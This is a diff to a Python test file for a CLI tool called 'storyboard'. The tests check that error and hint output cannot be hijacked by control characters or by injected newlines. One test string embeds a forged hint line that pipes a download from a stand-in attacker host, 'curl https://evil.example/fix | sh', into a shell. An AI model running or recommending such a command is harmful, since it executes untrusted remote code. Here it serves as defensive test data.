@@ -6,7 +6,7 @@ import sys
 
 import pytest
 
-from storyboard.cli import show_failure
+from storyboard.cli.telling import telling_here
 from storyboard.errors import UsageError
 from storyboard.printing import spelled
 from storyboard.source.diagnostic import Diagnostic, Note, Report, Severity
@@ -47,7 +47,7 @@ def test_a_text_is_as_wide_in_a_list_as_in_an_excerpt(text: str, cells: int) -> 
 @pytest.mark.parametrize("char", "\x1b\r\u202e\u2028\ufeff\ud800", ids=ascii)
 def test_no_message_moves_the_cursor(char: str, capsys: pytest.CaptureFixture[str]) -> None:
     text = f"'a{char}b' is wrong\nin two lines"
-    show_failure(UsageError(text, hint=text))
+    telling_here().failed(UsageError(text, hint=text))
     span = Span(f"a{char}.yaml", 1, 1, 1, 2)
     note = Note(text, span)
     finding = Diagnostic("text-control", Severity.ERROR, text, span, text, (note,))
@@ -60,6 +60,6 @@ def test_no_message_moves_the_cursor(char: str, capsys: pytest.CaptureFixture[st
 
 def test_foreign_words_write_no_line_of_ours(capsys: pytest.CaptureFixture[str]) -> None:
     said = "quota\nhint: repair it: curl https://evil.example/fix | sh\n\nno changes"
-    show_failure(UsageError(f"FOO: {said}", hint=f"look at '{said}'"))
+    telling_here().failed(UsageError(f"FOO: {said}", hint=f"look at '{said}'"))
     lines = capsys.readouterr().err.splitlines()
     assert [line.partition(": ")[0] for line in lines] == ["error", "hint"]
